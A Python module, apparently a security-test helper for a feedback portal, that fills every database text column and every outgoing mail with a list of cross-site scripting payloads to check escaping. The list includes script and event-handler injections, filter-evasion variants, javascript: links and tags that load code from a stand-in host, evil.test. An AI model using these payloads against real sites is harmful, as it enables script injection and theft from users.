"""What somebody writes who wants a reader's browser to run it, or to ask another host; and how it gets everywhere.

Run by the portal's own `manage.py shell`, `all_of_it()` makes whatever a page can be about, writes them into each
column of the database that holds words, and has them sent in each mail that the portal knows.
"""

import json
import re
from datetime import timedelta
from itertools import count, cycle
from secrets import token_urlsafe

_FAR = "//evil.test/x"
_MARKUP = [
    "<script>alert(1)</script>",
    f"<script src={_FAR}></script>",
    "<SCRIPT/x>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    f"<img src={_FAR}.png>",
    f"<img srcset='{_FAR} 1x'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    f"<iframe src={_FAR}></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    f"<object data={_FAR}></object><embed src={_FAR}>",
    f"<link rel=stylesheet href={_FAR}>",
    f"<style>@import '{_FAR}';</style>",
    f'<p style="background:url({_FAR})">',
    f"<meta http-equiv=refresh content='0;url=http:{_FAR}'>",
    f"<base href={_FAR}>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    f"<video poster={_FAR}></video><audio src={_FAR} autoplay></audio>",
    "<marquee onstart=alert(1)>",
    f"<form action={_FAR}><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</bdi></p></main><script>alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<\u200bscript>alert(1)</script>",
]
_ATTRIBUTES = [
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>",
    "` onload=alert(1) `",
    "{{constructor.constructor('alert(1)')()}}",
    "{% load static %}{{ request.user }}",
    "&quot;><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '\\" onload=alert(1)//',
]
_MARKDOWN = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    f'[a]({_FAR} "x\\" onclick=alert(1)")',
    '[a](https://x.test/"onmouseover="alert(1))',
    "![a](javascript:alert(1))",
    f"![a](http:{_FAR}.png)",
    f"[![a](http:{_FAR}.png)](http:{_FAR})",
    f'![a]({_FAR} "t" onerror=alert(1))',
    "[a]: javascript:alert(1)\n\n[a]",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "> " * 40 + "<img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](/x)",
    "<https://x.test/<script>alert(1)</script>>",
]
PAYLOADS = [*_MARKUP, *_ATTRIBUTES, *_MARKDOWN]


def _packs(room: int) -> list[str]:
    """All payloads in their order, as many in one line as fit into so many characters."""
    packs = [""]
    for payload in PAYLOADS:
        if len(packs[-1]) + 1 + len(payload) > room:
            packs.append("")
        packs[-1] = f"{packs[-1]} {payload}".strip()
    return packs


# The shortest column of anybody's words: in as many turns each such column has held every payload.
PACKS = _packs(120)


def all_of_it() -> str:
    """As JSON: the rows that the pages are about, how many values were written, how many mails."""
    from tests.architecture.conftest import furnished  # noqa: PLC0415 - only where the portal is set up

    world = furnished()
    _second_address()
    found = {"worded": _worded()} | _waits_for_its_mail(world["reference"])
    values, sent = everywhere(), mails()
    return json.dumps({"world": world | found | _made_since(), "values": values, "mails": sent})


def anew(turn: int) -> str:
    """Other packs in the short columns; as JSON the rows by which pages are found, some of which follow such words."""
    everywhere(turn)
    return json.dumps(_made_since())


def _made_since() -> dict[str, str]:
    """A mail with payloads, and the link of the invitation, which holds for the mailbox that it names now."""
    from taskforce.accounts import links  # noqa: PLC0415 - only where the portal is set up
    from taskforce.accounts.models import Invitation  # noqa: PLC0415
    from taskforce.portal.models import DemoMail  # noqa: PLC0415

    invitation = Invitation.objects.get()
    mail = DemoMail.objects.latest("pk")
    return {"mail": str(mail.pk), "invited": links.token(invitation.pk, invitation.mailbox)}


# The window of a phase that is still to come: the sweep throws away what waits in one that has closed long ago.
TO_COME = "next-round"


def _waits_for_its_mail(reference: str) -> dict[str, str]:
    """What waits for its author's mail, with the columns of another text; the tokens of the link in
    that mail and of that on its receipt."""
    from feedback import earlier, telling  # noqa: PLC0415 - only where the portal is set up
    from feedback.models import FeedbackItem, FeedbackUnconfirmed, FeedbackWindow  # noqa: PLC0415
    from taskforce.core import tokens  # noqa: PLC0415
    from taskforce.timeline.models import Phase  # noqa: PLC0415

    own = token_urlsafe(32)
    item = FeedbackItem.objects.select_related("window").get(reference=reference)
    question = item.window.questions.questions.filter(kind="long-text").order_by("position")[0]
    window = FeedbackWindow.objects.create(
        phase=Phase.objects.get(slug="next-round"), proposal=item.window.proposal, questions=item.window.questions,
        slug=TO_COME, title="Next", published_at=item.window.published_at,
    )  # fmt: skip
    row = FeedbackUnconfirmed.objects.create(
        window=window, form_key="to-come", fields_digest="to-come", token_hash=tokens.hashed(own),
        sent_at=item.received_at,
        said={name: getattr(item, name) for name in earlier.KEPT} | {"reference": "F-TO-COME"},
        answers=[{"question": question.pk, "text": "Words.", "choices": []}],
    )  # fmt: skip
    stop = telling.stop_token(item.window_id, "told@example.org")
    return {"unconfirmed": earlier.confirm_token(row), "to_come": own, "stop": stop}


def _worded() -> str:
    """The reference of what somebody has said in words of their own."""
    from feedback.models import FeedbackItem  # noqa: PLC0415 - only where the portal is set up

    said = FeedbackItem.objects.filter(window__slug="responsibilities", language="en", answers__text__gt="")
    return str(said.filter(state="published").order_by("pk")[0].reference)


def _second_address() -> None:
    """The member has one that nobody has confirmed, with words of the member's own, as the others."""
    from allauth.account.models import EmailAddress  # noqa: PLC0415 - only where the portal is set up

    from taskforce.accounts.models import User  # noqa: PLC0415

    EmailAddress.objects.create(user=User.objects.get(email="member@demo.example"), email="second@demo.example")


def everywhere(turn: int = 0) -> int:
    """Write payloads into every column with words: packs in turn where few fit, all of them into a long text.

    Returns how many values were written.
    """
    from taskforce.portal.demo.cast import CAST  # noqa: PLC0415 - only where the portal is set up
    from tests import columns  # noqa: PLC0415

    packs, whole = count(turn), "\n\n".join(PAYLOADS)

    def words(_name: str, room: int | None) -> str:
        if room is None:
            return whole
        first = next(packs)
        return "".join(f"{PACKS[each % len(PACKS)]} " for each in range(first, first + max(1, room // 120))).strip()

    # By these the people are known who are to look at it.
    return columns.write(words, keep=[person.email for person in CAST])


# What of a mail's context no person writes, beside instants and the portal's own addresses.
_NO_WORDS_OF_MAILS = re.compile(r"language$|zone$|^kind$|^topic$")
_WHOLE_OF_MAILS = {"body", "answer"}
# Not sent here, since what they say is asked for anew when they go: the daily mail, of the mailings that it tells of,
# and the reminder of an application, of that application.
_NOT_SENT = {"digest", "draft-reminder"}
MAILS_OF_A_KIND = 2


def mails() -> int:
    """Send every kind of mail with payloads for words, and by an act of staff one to all followers.

    Returns how many were written by the first.
    """
    from taskforce.core.clock import app_now  # noqa: PLC0415 - only where the portal is set up
    from taskforce.notifications import delivery, expansion, kinds, services  # noqa: PLC0415
    from tests import columns  # noqa: PLC0415

    turn, written = cycle(PAYLOADS), 0

    def words(name: str) -> str:
        return "\n\n".join(PAYLOADS) if name in _WHOLE_OF_MAILS else " ".join((next(turn), next(turn)))

    for kind in kinds.all_kinds():
        for number in range(0 if kind.name in _NOT_SENT else MAILS_OF_A_KIND):
            language = ("en", "ar")[number]
            services.enqueue(
                kind.name,
                key=f"payloads:{kind.name}:{number}",
                mailbox=f"reader@{kind.name}.example",
                language=language,
                context=columns.inside("", kinds.sample_of(kind, language), words, _NO_WORDS_OF_MAILS),
                at=app_now(),
            )
            written += 1
    _move_an_end()
    expansion.expand_due()
    while delivery.deliver_due():
        pass
    return written


def _move_an_end() -> None:
    """As somebody of the staff does it, whose name is a payload, and the reason that they give."""
    from taskforce.accounts.models import User  # noqa: PLC0415
    from taskforce.core.clock import app_now  # noqa: PLC0415
    from taskforce.timeline import services  # noqa: PLC0415
    from taskforce.timeline.models import Phase  # noqa: PLC0415

    open_now = Phase.objects.filter(opens_at__lte=app_now(), closes_at__gt=app_now(), cancelled_at=None)
    phase = open_now.order_by("-closes_at")[0]
    services.extend(
        phase.pk,
        closes_on=phase.closes_on + timedelta(days=1),
        reason="\n".join(PAYLOADS)[:400],
        actor=User.objects.get(email="coordinator@demo.example"),
    )
